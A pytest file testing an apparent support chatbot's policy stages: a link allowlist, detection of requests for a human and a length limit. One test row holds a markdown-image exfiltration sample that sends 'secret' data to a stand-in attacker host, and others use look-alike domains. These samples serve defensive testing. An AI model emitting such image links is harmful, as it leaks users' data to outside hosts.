"""The small stages: links, handoff, and the length limit. Positive and negative rows each."""

from __future__ import annotations

import pytest
from pydantic import ValidationError

from policies.base import Context
from policies.handoff import HandoffRules, HandoffStage
from policies.limits import LengthStage, LimitRules
from policies.links import LinkRules, LinkStage
from policies.verdicts import Allow, Block

OUT = Context("output")
IN = Context("input")


@pytest.fixture
def links() -> LinkStage:
    return LinkStage(LinkRules(allowed_domains=["northwind.example", "help.example.com"]))


@pytest.mark.parametrize(
    ("text", "expected", "rules"),
    [
        ("See https://northwind.example/returns.", "See https://northwind.example/returns.", []),
        ("At https://docs.northwind.example/a?b=1", "At https://docs.northwind.example/a?b=1", []),
        ("Go to https://evil.example/x now", "Go to [link removed] now", ["disallowed_link"]),
        ("Go to www.evil.example.", "Go to [link removed].", ["disallowed_link"]),
        # A look-alike host is not a subdomain of an allowed one.
        ("https://northwind.example.evil.io/x", "[link removed]", ["disallowed_link"]),
        ("https://evilnorthwind.example/", "[link removed]", ["disallowed_link"]),
        # The exfiltration trick: an image whose URL carries data. Removed whole.
        ("Done. ![x](https://evil.example/p.png?d=secret)", "Done. ", ["disallowed_image"]),
        ("![logo](https://help.example.com/l.png)", "![logo](https://help.example.com/l.png)", []),
        ("[our page](https://evil.example/a)", "[our page]([link removed])", ["disallowed_link"]),
        ("No links here: version 2.5.1 of app.py", "No links here: version 2.5.1 of app.py", []),
    ],
)
def test_links_only_to_allowed_domains_when_answers_contain_urls(
    links: LinkStage, text: str, expected: str, rules: list[str]
) -> None:
    verdict = links.check(text, OUT)
    assert isinstance(verdict, Allow)
    assert verdict.text == expected
    assert [f.rule for f in verdict.findings] == rules
    assert "secret" not in verdict.text


def test_no_links_at_all_when_no_domain_is_allowed() -> None:
    verdict = LinkStage(LinkRules()).check("https://northwind.example/x", OUT)
    assert verdict == Allow("[link removed]", findings=verdict.findings)


@pytest.mark.parametrize("domain", ["not a host", "https://x.example/path", "localhost"])
def test_link_rules_refuse_a_domain_when_it_is_not_a_host_name(domain: str) -> None:
    with pytest.raises(ValidationError, match="is not a host name"):
        LinkRules(allowed_domains=[domain])


@pytest.mark.parametrize(
    ("text", "asked"),
    [
        ("Can I talk to a human please?", True),
        ("I want to SPEAK TO  A PERSON", True),
        ("get me a live agent", True),
        ("Is a real person reading this?", True),
        ("How do I return a humane mousetrap?", False),
        ("The person at the desk said 30 days", False),
        ("I spoke to your representative yesterday", False),
    ],
)
def test_handoff_flags_a_message_when_it_asks_for_a_person(text: str, asked: bool) -> None:
    verdict = HandoffStage(HandoffRules()).check(text, IN)
    assert isinstance(verdict, Allow) and verdict.text == text
    assert bool(verdict.handoff) is asked
    assert [f.action for f in verdict.findings] == (["handoff"] if asked else [])


@pytest.mark.parametrize(
    ("no_answers", "blocks", "due"),
    [(0, 0, False), (1, 0, False), (2, 0, True), (0, 2, False), (0, 3, True)],
)
def test_handoff_is_due_when_the_counts_reach_the_policy(
    no_answers: int, blocks: int, due: bool
) -> None:
    assert bool(HandoffStage(HandoffRules()).due(no_answers, blocks)) is due


def test_handoff_never_when_disabled() -> None:
    stage = HandoffStage(HandoffRules(enabled=False))
    assert stage.check("talk to a human", IN) == Allow("talk to a human")
    assert stage.due(10, 10) == ""


@pytest.mark.parametrize(("length", "blocked"), [(10, False), (100, False), (101, True)])
def test_length_limit_blocks_input_when_longer_than_the_policy(length: int, blocked: bool) -> None:
    stage = LengthStage(LimitRules(max_input_chars=100))
    verdict = stage.check("x" * length, IN)
    assert isinstance(verdict, Block) is blocked
    if isinstance(verdict, Block):
        assert verdict.reply == LimitRules().too_long_reply
        assert [(f.rule, f.count) for f in verdict.findings] == [("max_input_chars", 1)]
